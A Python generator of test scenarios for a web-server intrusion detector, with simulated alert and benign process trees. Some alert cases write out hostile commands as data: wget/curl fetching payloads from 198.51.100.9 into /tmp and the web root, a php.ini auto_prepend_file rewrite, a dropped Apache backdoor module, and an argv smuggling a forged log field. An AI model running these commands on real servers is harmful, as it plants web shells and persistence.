    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "busybox wget http://198.51.100.9/m -O /tmp/m"])
    b = s.spawn(sh, "/bin/busybox", ["busybox", "wget", "http://198.51.100.9/m", "-O", "/tmp/m"])
    s.alert(SHELL, w, sh, root=m)
    s.alert(RECON, w, b, root=m)
    return s


@scenario
def ws_crafted_argv():
    s = Sc("alert-crafted-argv-escaped", "issue 3 (a crafted argv cannot break a line or forge a field)",
           "php-fpm: sh -c with a newline, quotes, an ANSI escape, a forged JSON field and an invalid byte")
    m, w = php_fpm(s)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "id\n{\"rule\":{\"id\":\"none\"}}\x1b[2J\"\\xff"])
    s.alert(SHELL, w, sh, root=m)
    return s


# ---------------------------------------------------------------- benign
@scenario
def b_php_mail():
    s = Sc("benign-php-mail-sendmail", "detection-content 8.1 (PHP mail() popen of sendmail_path; php-src ext/standard/mail.c)",
           "php-fpm worker sends a contact form: sh -c '/usr/sbin/sendmail -t -i' -> sendmail -> connect 127.0.0.1:25")
    m, w = php_fpm(s)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "/usr/sbin/sendmail -t -i"])
    sm = s.spawn(sh, "/usr/sbin/sendmail", ["/usr/sbin/sendmail", "-t", "-i"])
    s.connect(sm, "127.0.0.1", 25)
    return s


@scenario
def b_php_mail_from():
    s = Sc("benign-php-mail-with-from", "detection-content 8.1 (Hestia template adds -f)",
           "mod_php mail() with additional parameters: sh -c '/usr/sbin/sendmail -t -i -f info@example.org'")
    m, w = apache(s)
    sh = s.spawn(w, "/bin/dash", ["sh", "-c", "/usr/sbin/sendmail -t -i -f info@example.org"])
    s.spawn(sh, "/usr/sbin/sendmail", ["/usr/sbin/sendmail", "-t", "-i", "-f", "info@example.org"])
    return s


@scenario
def b_apache_rotatelogs_shell():
    s = Sc("benign-apache2-rotatelogs-piped", "detection-content 8.8 (apache piped logs)",
           "apache2 starts its piped logger through sh -c '/usr/bin/rotatelogs -l /var/log/apache2/access.%Y%m%d 86400'")
    m = s.spawn(1, "/usr/sbin/apache2", ["/usr/sbin/apache2", "-k", "start"], uid=0)
    sh = s.spawn(m, "/bin/sh", ["/bin/sh", "-c", "/usr/bin/rotatelogs -l /var/log/apache2/access.%Y%m%d 86400"])
    s.exec(sh, "/usr/bin/rotatelogs", ["/usr/bin/rotatelogs", "-l", "/var/log/apache2/access.%Y%m%d", "86400"])
    return s


@scenario
def b_apache_rotatelogs_direct():
    s = Sc("benign-apache2-rotatelogs-direct", "detection-content 8.8 (|| piped logs, no shell)",
           "apache2 -> rotatelogs directly")
    m = s.spawn(1, "/usr/sbin/apache2", ["/usr/sbin/apache2", "-k", "start"], uid=0)
    s.spawn(m, "/usr/bin/rotatelogs", ["/usr/bin/rotatelogs", "/var/log/apache2/error.%Y%m%d", "86400"])
    return s


@scenario
def b_nginx_workers():
    s = Sc("benign-nginx-master-workers", "detection-content 8.2 (master/worker are fork-only)",
           "nginx master forks four workers; two exit and are replaced; workers talk to upstreams in 10/8")
    m = s.spawn(1, "/usr/sbin/nginx", ["/usr/sbin/nginx", "-g", "daemon on; master_process on;"], uid=0)
    ws = [s.fork(m, uid=WWW) for _ in range(4)]
    s.exit(ws[0])
    s.exit(ws[1])
    ws += [s.fork(m, uid=WWW) for _ in range(2)]
    s.connect(ws[2], "10.0.0.5", 8080)
    s.connect(ws[3], "10.20.30.40", 443)
    return s


@scenario
def b_nginx_reload_initd():
    s = Sc("benign-nginx-initd-reload", "detection-content 9 (/etc/init.d/nginx has comm nginx but is a shell script); Elastic init.d exclusion",
           "systemd runs /etc/init.d/nginx reload, which runs id -u, nginx -t and kill -HUP")
    init = s.spawn(1, "/etc/init.d/nginx", ["/bin/sh", "/etc/init.d/nginx", "reload"], uid=0)
    s.spawn(init, "/usr/bin/id", ["id", "-u"])
    s.spawn(init, "/usr/sbin/nginx", ["/usr/sbin/nginx", "-t", "-q"])
    s.spawn(init, "/bin/kill", ["kill", "-HUP", "1234"])
    return s


@scenario
def b_nginx_upgrade():
    s = Sc("benign-nginx-binary-upgrade", "Falco nginx_starting_nginx (USR2 binary upgrade)",
           "nginx master on USR2 forks and execs a new nginx master, which forks workers")
    m = s.spawn(1, "/usr/sbin/nginx", ["/usr/sbin/nginx", "-c", "/etc/nginx/nginx.conf"], uid=0)
    n = s.spawn(m, "/usr/sbin/nginx", ["/usr/sbin/nginx", "-c", "/etc/nginx/nginx.conf"])
    s.fork(n, uid=WWW)
    return s


@scenario
def b_php_fpm_reexec():
    s = Sc("benign-php-fpm-reload-reexec", "detection-content 8.2 (worker re-exec on reload)",
           "php-fpm master re-execs itself on reload (same pid) and forks a new pool")
    m = s.spawn(1, "/usr/sbin/php-fpm8.2", ["php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"], uid=0)
    s.fork(m, uid=WWW)
    s.exec(m, "/usr/sbin/php-fpm8.2", ["/usr/sbin/php-fpm8.2", "--nodaemonize", "--fpm-config", "/etc/php/8.2/fpm/php-fpm.conf"])
    w = s.fork(m, uid=WWW)
    s.connect(w, "127.0.0.1", 6379)
    return s


@scenario
def b_logrotate():
    s = Sc("benign-logrotate-postrotate", "detection-content 8.6 (log rotation)",
           "cron -> logrotate -> sh -c postrotate script -> invoke-rc.d nginx rotate; nothing below a server")
    cron = s.spawn(1, "/usr/sbin/cron", ["/usr/sbin/cron", "-f"], uid=0)
    lr = s.spawn(cron, "/usr/sbin/logrotate", ["/usr/sbin/logrotate", "/etc/logrotate.conf"])
    sh = s.spawn(lr, "/bin/sh", ["sh", "-c", "invoke-rc.d nginx rotate >/dev/null 2>&1"])
    inv = s.spawn(sh, "/usr/sbin/invoke-rc.d", ["/bin/sh", "/usr/sbin/invoke-rc.d", "nginx", "rotate"])
    s.spawn(inv, "/usr/bin/cat", ["cat", "/run/nginx.pid"])
    return s


@scenario
def b_health_check():
    s = Sc("benign-health-checks", "Falco sandbox 'healthcheck' trap (detection-content 8.10): health checks come from outside the server tree",
           "systemd timer runs curl http://127.0.0.1/health; php-fpm answers and talks to redis and postgres on private addresses")
    m, w = php_fpm(s)
    t = s.spawn(1, "/usr/bin/curl", ["curl", "-fsS", "http://127.0.0.1/health"], uid=0)
    s.connect(t, "127.0.0.1", 80)
    s.connect(w, "127.0.0.1", 6379)
    s.connect(w, "10.0.2.15", 5432)
    s.connect(w, "fd12:3456::5", 3306)
    s.connect(w, "127.0.0.53", 53, proto="udp")
    return s


@scenario
def b_upstreams():
    s = Sc("benign-upstreams-in-allowlist", "Falco outbound macro (loopback + RFC 1918 are internal)",
           "nginx workers proxy to upstreams in 172.16/12 and 192.168/16 and to ::1")
    m, w = nginx(s)
    s.connect(w, "172.20.0.3", 8000)
    s.connect(w, "192.168.10.20", 9000)
    s.connect(w, "::1", 8080)
    s.connect(w, "172.31.255.254", 443)
    return s


@scenario
def b_php_ffmpeg():
    s = Sc("benign-php-ffmpeg-thumbnail", "Elastic exclusions (args ffmpeg*; detection-content 8.5)",
           "php-fpm makes a thumbnail: sh -c 'ffmpeg -i /var/www/uploads/v.mp4 -ss 1 -vframes 1 /var/www/uploads/v.jpg'")
    m, w = php_fpm(s)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "ffmpeg -i /var/www/uploads/v.mp4 -ss 1 -vframes 1 /var/www/uploads/v.jpg"])
    s.spawn(sh, "/usr/bin/ffmpeg", ["ffmpeg", "-i", "/var/www/uploads/v.mp4", "-ss", "1", "-vframes", "1", "/var/www/uploads/v.jpg"])
    return s


@scenario
def b_php_wkhtmltopdf_direct():
    s = Sc("benign-php-wkhtmltopdf-direct", "Elastic exclusion /usr/local/bin/wkhtmltopdf (detection-content 8.5)",
           "php-fpm runs wkhtmltopdf through proc_open(array): no shell")
    m, w = php_fpm(s)
    s.spawn(w, "/usr/local/bin/wkhtmltopdf", ["/usr/local/bin/wkhtmltopdf", "/tmp/in.html", "/tmp/out.pdf"])
    return s


@scenario
def b_lighttpd_mime():
    s = Sc("benign-lighttpd-create-mime", "Falco PR #1996 (lighttpd include_shell at start-up)",
           "lighttpd master at start-up: /bin/sh -c /usr/share/lighttpd/create-mime.conf.pl -> perl")
    m = s.spawn(1, "/usr/sbin/lighttpd", ["/usr/sbin/lighttpd", "-D", "-f", "/etc/lighttpd/lighttpd.conf"], uid=0)
    sh = s.spawn(m, "/bin/sh", ["/bin/sh", "-c", "/usr/share/lighttpd/create-mime.conf.pl"])
    s.spawn(sh, "/usr/bin/perl", ["/usr/bin/perl", "/usr/share/lighttpd/create-mime.conf.pl"])
    return s


@scenario
def b_tomcat_helper():
    s = Sc("benign-tomcat-jspawnhelper-convert", "detection-content 8.7 (java helpers; jspawnhelper)",
           "Tomcat converts an image: java -> jspawnhelper -> /usr/bin/convert")
    t = s.spawn(1, JAVA, TOMCAT, uid=997)
    tomcat_child(s, t, "/usr/bin/convert", ["convert", "/var/lib/tomcat9/temp/in.png", "-resize", "200x", "/var/lib/tomcat9/temp/out.png"])
    return s


@scenario
def b_www_cron():
    s = Sc("benign-www-data-cron", "detection-content 8.9 (Sigma auditd euid=33 fires on www-data cron jobs)",
           "cron runs wp-cron.php as www-data: sh -c 'php /var/www/html/wp-cron.php' -> php; no server above")
    cron = s.spawn(1, "/usr/sbin/cron", ["/usr/sbin/cron", "-f"], uid=0)
    c2 = s.fork(cron, uid=WWW)
    sh = s.spawn(c2, "/bin/sh", ["/bin/sh", "-c", "php /var/www/html/wp-cron.php"])
    p = s.spawn(sh, "/usr/bin/php8.2", ["php", "/var/www/html/wp-cron.php"])
    s.connect(p, "198.51.100.20", 443)
    s.spawn(sh, "/usr/bin/id", ["id"])
    return s


@scenario
def b_sudo_www_occ():
    s = Sc("benign-admin-sudo-www-data-occ", "detection-content 8.9 (sudo -u www-data php occ)",
           "an admin's bash runs sudo -u www-data php occ upgrade, which runs sh -c and whoami")
    b = s.spawn(1, "/bin/bash", ["-bash"], uid=1000)
    su = s.spawn(b, "/usr/bin/sudo", ["sudo", "-u", "www-data", "php", "occ", "upgrade"], uid=1000)
    p = s.spawn(su, "/usr/bin/php8.2", ["php", "occ", "upgrade"], uid=WWW)
    sh = s.spawn(p, "/bin/sh", ["sh", "-c", "whoami"])
    s.spawn(sh, "/usr/bin/whoami", ["whoami"])
    return s


@scenario
def b_php_version_probe():
    s = Sc("benign-php-version-probe", "Elastic persistence_webserver_suspicious_command_execution exclusions (php -r 'echo phpversion();')",
           "apache2 (a CMS) probes the PHP version: sh -c \"php -r 'echo phpversion();'\" -> php -r")
    m, w = apache(s)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "php -r 'echo phpversion();'"])
    s.spawn(sh, "/usr/bin/php8.2", ["php", "-r", "echo phpversion();"])
    return s


@scenario
def b_node_build():
    s = Sc("benign-node-build-tool", "Falco possibly_node_in_container (node is also a build tool); Elastic npx/postinstall exclusions",
           "node running a build (no server markers) runs sh -c 'git rev-parse HEAD' and curl to a registry")
    n = s.spawn(1, "/usr/bin/node", ["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "run", "build"], uid=1000)
    sh = s.spawn(n, "/bin/sh", ["sh", "-c", "git rev-parse HEAD"])
    s.spawn(sh, "/usr/bin/git", ["git", "rev-parse", "HEAD"])
    s.connect(n, "198.51.100.30", 443)
    return s


@scenario
def b_mysql_replication():
    s = Sc("benign-mysql-replication", "Falco outbound macro (RFC 1918)",
           "mysqld replica connects to its source at 10.0.0.9:3306")
    m = s.spawn(1, "/usr/sbin/mysqld", ["/usr/sbin/mysqld"], uid=110)
    s.connect(m, "10.0.0.9", 3306)
    return s


# ---------------------------------------------------------------- file rules (issue 6)
def dpkg(s, pkg):
    b = s.spawn(1, "/bin/bash", ["-bash"], uid=0)
    apt = s.spawn(b, "/usr/bin/apt-get", ["apt-get", "install", "-y", pkg])
    return s.spawn(apt, "/usr/bin/dpkg", ["/usr/bin/dpkg", "--status-fd", "35", "--unpack", f"/var/cache/apt/archives/{pkg}.deb"])


@scenario
def f_php_fpm_upload():
    s = Sc("alert-webroot-php-fpm-upload", "Elastic persistence_web_server_webshell_creation; MaxPatrol PTAF_Webshell_Detected",
           "a php-fpm worker (www-data) saves an upload as /var/www/html/uploads/x.php: a web shell planted through the application")
    m, w = php_fpm(s)
    s.file(w, "/var/www/html/uploads/x.php")
    s.file_alert(WEBROOT, w, server=w, root=m, path="/var/www/html/uploads/x.php", action="creation", severity="critical")
    return s


@scenario
def f_php_fpm_upload_then_shell():
    s = Sc("alert-webroot-upload-then-shell", "issue 6: an upload then a request to it running a command is one incident",
           "a php-fpm worker writes /var/www/html/uploads/x.php; the next request to x.php (same pool) runs sh -c id")
    m, w = php_fpm(s)
    s.file(w, "/var/www/html/uploads/x.php")
    s.file_alert(WEBROOT, w, server=w, root=m, path="/var/www/html/uploads/x.php", severity="critical")
    s.wait(2)
    w2 = s.fork(m, uid=WWW)
    sh = s.spawn(w2, "/bin/sh", ["sh", "-c", "id"])
    s.alert(SHELL, w2, sh, root=m)
    s.exec(sh, "/usr/bin/id", ["id"])
    s.alert(RECON, w2, sh, root=m)
    return s


@scenario
def f_tmp_rename_into_root():
    s = Sc("alert-webroot-rename-from-tmp", "issue 6 (a shell written elsewhere and moved into place); Atomic Red Team T1505.003",
           "www-data's shell below apache2 writes /tmp/s.txt, then mv renames it to /var/www/html/s.php")
    m, w = apache(s)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "curl -o /tmp/s.txt http://198.51.100.9/s; mv /tmp/s.txt /var/www/html/s.php"])
    s.alert(SHELL, w, sh, root=m)
    mv = s.spawn(sh, "/usr/bin/mv", ["mv", "/tmp/s.txt", "/var/www/html/s.php"])
    s.file(mv, "/var/www/html/s.php", op="rename", flags=RENAME_FLAGS, ret=0, source="/tmp/s.txt")
    s.file_alert(WEBROOT, mv, server=w, root=m, path="/var/www/html/s.php", action="rename", severity="critical")
    return s


@scenario
def f_symlink_into_root():
    s = Sc("alert-webroot-symlink-from-tmp", "issue 6 (a shell placed without writing the web root); Atomic Red Team T1505.003",
           "www-data's shell below apache2 writes /tmp/.s, then ln -s makes /var/www/html/s.php point at it")
    m, w = apache(s)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "ln -s /tmp/.s /var/www/html/s.php"])
    s.alert(SHELL, w, sh, root=m)
    ln = s.spawn(sh, "/usr/bin/ln", ["ln", "-s", "/tmp/.s", "/var/www/html/s.php"])
    s.file(ln, "/var/www/html/s.php", op="symlink", flags=0, ret=0, source="/tmp/.s")
    s.file_alert(WEBROOT, ln, server=w, root=m, path="/var/www/html/s.php", action="symlink", severity="critical")
    return s


@scenario
def f_www_data_ssh_outside_server():
    s = Sc("alert-webroot-ssh-outside-server", "Atomic Red Team T1505.003 test 4 (creat of /var/www/html/<name>.php); MaxPatrol Unix_Webshell_Created",
           "an ssh session of www-data (no server above) runs bash, which writes /var/www/html/x.php with echo: a lower-severity alert with no lineage.server")
    sshd = s.spawn(1, "/usr/sbin/sshd", ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"], uid=0)
    sess = s.fork(sshd, uid=WWW)
    b = s.exec(sess, "/bin/bash", ["-bash"])
    s.file(b, "/var/www/html/x.php")
    s.file_alert(WEBROOT, b, path="/var/www/html/x.php", action="creation", severity="medium")
    return s


@scenario
def f_a2enmod_root_shell():
    s = Sc("alert-a2enmod-from-root-shell", "ATT&CK analytic AN1508 (rogue Apache module enabled)",
           "root's interactive bash runs a2enmod backdoor (its exec alone shows it here; the symlinks it creates are file events of their own)")
    b = s.spawn(1, "/bin/bash", ["-bash"], uid=0)
    a = s.spawn(b, "/usr/sbin/a2enmod", ["/usr/bin/perl", "-w", "/usr/sbin/a2enmod", "backdoor"])
    s.file_alert(MODULE, a, severity="high")
    return s


@scenario
def f_so_into_apache_modules():
    s = Sc("alert-apache-module-dropped", "ATT&CK analytic AN1508; T1505 (Apache backdoor modules such as mod_rootme)",
           "a cp from a root shell drops mod_backdoor.so into /usr/lib/apache2/modules")
    b = s.spawn(1, "/bin/bash", ["-bash"], uid=0)
    cp = s.spawn(b, "/usr/bin/cp", ["cp", "/tmp/mod_backdoor.so", "/usr/lib/apache2/modules/"])
    s.file(cp, "/usr/lib/apache2/modules/mod_backdoor.so")
    s.file_alert(MODULE, cp, path="/usr/lib/apache2/modules/mod_backdoor.so", action="creation", severity="high")
    return s


@scenario
def f_php_ini_written():
    s = Sc("alert-php-ini-auto-prepend", "ATT&CK analytic AN1508 (php.ini auto_prepend_file)",
           "a root shell's sed -i rewrites /etc/php/8.2/fpm/php.ini: sed's temporary file beside it is not a watched path, its rename over php.ini is")
    b = s.spawn(1, "/bin/bash", ["-bash"], uid=0)
    sed = s.spawn(b, "/usr/bin/sed", ["sed", "-i", "s|^auto_prepend_file =.*|auto_prepend_file = /tmp/.p|", "/etc/php/8.2/fpm/php.ini"])
    s.file(sed, "/etc/php/8.2/fpm/sedX1b2c3", flags=0o302)
    s.file(sed, "/etc/php/8.2/fpm/php.ini", op="rename", flags=0, ret=0, source="/etc/php/8.2/fpm/sedX1b2c3")
    s.file_alert(MODULE, sed, path="/etc/php/8.2/fpm/php.ini", action="rename")
    return s


@scenario
def f_written_then_executed():
    s = Sc("alert-server-written-file-executed", "issue 6 (write-then-exec correlation); Elastic persistence_web_server_webshell_creation + execution",
           "a php-fpm worker writes /var/www/html/uploads/k (not a script: no webroot-script-write alert), then a process started by cron executes it: the exec alert joins the php-fpm tree's incident")
    m, w = php_fpm(s)
    s.file(w, "/var/www/html/uploads/k")
    s.wait(1)
    sh = s.spawn(w, "/bin/sh", ["sh", "-c", "chmod +x uploads/k"])
    s.alert(SHELL, w, sh, root=m)
    s.wait(1)
    cron = s.spawn(1, "/usr/sbin/cron", ["/usr/sbin/cron", "-f"], uid=0)
    job = s.fork(cron, uid=WWW)
    s.exec(job, "/var/www/html/uploads/k", ["k"])
    s.file_alert(EXECD, job, path="/var/www/html/uploads/k", severity="critical")
    return s


@scenario
def fb_dpkg_nginx_html():
    s = Sc("benign-dpkg-writes-web-root", "Elastic persistence_web_server_webshell_creation exclusions (dpkg, apt, rpm, yum, dnf)",
           "apt-get install runs dpkg, which unpacks /usr/share/nginx/html/index.html and a .php into the web root, and renames its .dpkg-new files into place")
    d = dpkg(s, "nginx-common")
    s.file(d, "/usr/share/nginx/html/index.html.dpkg-new")
    s.file(d, "/usr/share/nginx/html/index.html", op="rename", flags=0, ret=0, source="/usr/share/nginx/html/index.html.dpkg-new")
    s.file(d, "/usr/share/nginx/html/info.php.dpkg-new")
    s.file(d, "/usr/share/nginx/html/info.php", op="rename", flags=0, ret=0, source="/usr/share/nginx/html/info.php.dpkg-new")
    return s


@scenario
def fb_dpkg_postinst_a2enmod():
    s = Sc("benign-dpkg-postinst-a2enmod", "ATT&CK analytic AN1508 (module tools run by a package manager are expected)",
           "dpkg runs libapache2-mod-php8.2's postinst, which runs a2enmod php8.2 and writes /etc/php/8.2/apache2/php.ini")
    d = dpkg(s, "libapache2-mod-php8.2")
    post = s.spawn(d, "/bin/sh", ["/bin/sh", "/var/lib/dpkg/info/libapache2-mod-php8.2.postinst", "configure"])
    s.spawn(post, "/usr/sbin/a2enmod", ["/usr/bin/perl", "-w", "/usr/sbin/a2enmod", "php8.2"])
    ucf = s.spawn(post, "/usr/bin/ucf", ["ucf", "/usr/lib/php/8.2/php.ini-production", "/etc/php/8.2/apache2/php.ini"])
    s.file(ucf, "/etc/php/8.2/apache2/php.ini")
    return s


@scenario
def fb_rsync_deploy_user():
    s = Sc("benign-rsync-deploy-user", "Elastic persistence_web_server_webshell_creation (exclusions for deployment tools); issue 6",
           "the CI's ssh session as the deploy user (uid 1001) runs rsync, which writes /var/www/html/index.php; the config allows rsync as uid 1001")
    s.config = """# rsync run by the deploy user is how releases reach the web root.
[[rules.webroot_script_write.deployers]]
comment = "CI deploys with rsync over ssh as deploy"
executable = "rsync"
users = [1001]
"""
    sshd = s.spawn(1, "/usr/sbin/sshd", ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"], uid=0)
    sess = s.fork(sshd, uid=1001)
    r = s.exec(sess, "/usr/bin/rsync", ["rsync", "--server", "-logDtprze.iLsfxCIvu", ".", "/var/www/html/"])
    s.file(r, "/var/www/html/.index.php.Xa1b2c", flags=0o300)
    s.file(r, "/var/www/html/index.php", op="rename", flags=0, ret=0, source="/var/www/html/.index.php.Xa1b2c")
    return s


@scenario
def fb_php_fpm_image_upload():
    s = Sc("benign-php-fpm-image-upload", "Elastic persistence_web_server_webshell_creation (script extensions only)",
           "a php-fpm worker saves an uploaded avatar.png and writes its cache, and fails to create a .php (EACCES)")
    m, w = php_fpm(s)
    s.file(w, "/var/www/html/uploads/avatar.png")
    s.file(w, "/var/www/html/cache/page.html")
    s.file(w, "/var/www/html/x.php", ret=-13)
    return s


# Issue 17's scenarios (servers by role and launcher, sh -c --) live in roles.py.
import roles  # noqa: E402

roles.register(globals())


@scenario
def workload_exclusions():
    s = Sc("alert-workload-exclusion-by-image-and-namespace",
           "issue 22: exclusions by container image and Kubernetes namespace",
           "nginx in three containers each runs sh -c; the config excludes the image "
           "registry.example/ops/backup:* and the namespace kube-system. The backup container's "
           "first shell comes before its names were read (its record line has none yet) and "
           "alerts; once the names line is in, its next shell is excluded. The kube-system "
           "controller's shell is excluded; the shop pod's alerts")
    s.config = """# Teams tune per workload: ops' backup images and the cluster's own pods.
[[rules.server_spawned_shell.exclude]]
comment = "ops' backup jobs dump through sh"
container.image.name = "registry.example/ops/backup:*"

[[rules.server_spawned_shell.exclude]]
comment = "the cluster's own controllers"
orchestrator.namespace = "kube-system"
"""
    ids = {cg: f"{cg:02x}" * 32 for cg in (101, 102, 103)}
    for cg in ids:
        s.container(cg, ids[cg])
    pods = {}
    for cg in ids:
        master = s.spawn(1, "/usr/sbin/nginx", ["nginx: master process nginx -g daemon off;"],
                         uid=0, cgroup=cg)
        pods[cg] = (master, s.fork(master, uid=WWW))
    first = s.spawn(pods[101][1], "/bin/sh", ["sh", "-c", "pg_dump shop > /backup/shop.sql"])
    s.alert(SHELL, pods[101][0], first, incident="backup", root=pods[101][0])
    s.container(101, ids[101], name="backup", image="registry.example/ops/backup:1.4",
                namespace="ops", pod_name="backup-29011")
    s.container(102, ids[102], name="checkout", image="registry.example/shop/checkout:2.3",
                namespace="shop", pod_name="checkout-1")
    s.container(103, ids[103], name="controller",
                image="registry.k8s.io/ingress-nginx/controller:v1.9.4",
                namespace="kube-system", pod_name="ingress-nginx-controller-5d8f")
    s.wait(1)
    s.spawn(pods[101][1], "/bin/sh", ["sh", "-c", "pg_dump cart > /backup/cart.sql"])
    s.spawn(pods[103][1], "/bin/sh", ["sh", "-c", "nginx -s reload"])
    shop = s.spawn(pods[102][1], "/bin/sh", ["sh", "-c", "uname -a"])
    s.alert(SHELL, pods[102][0], shop, incident="shop", root=pods[102][0])
    return s


def main():
    names = set()
    for fn in scenarios:
        s = fn()
        if s.name in names:
            sys.exit(f"duplicate scenario {s.name}")
        names.add(s.name)
        s.write()
    alert = sum(1 for n in names if n.startswith("alert-"))
    print(f"{len(names)} scenarios: {alert} alert, {len(names) - alert} benign")


if __name__ == "__main__":
    main()
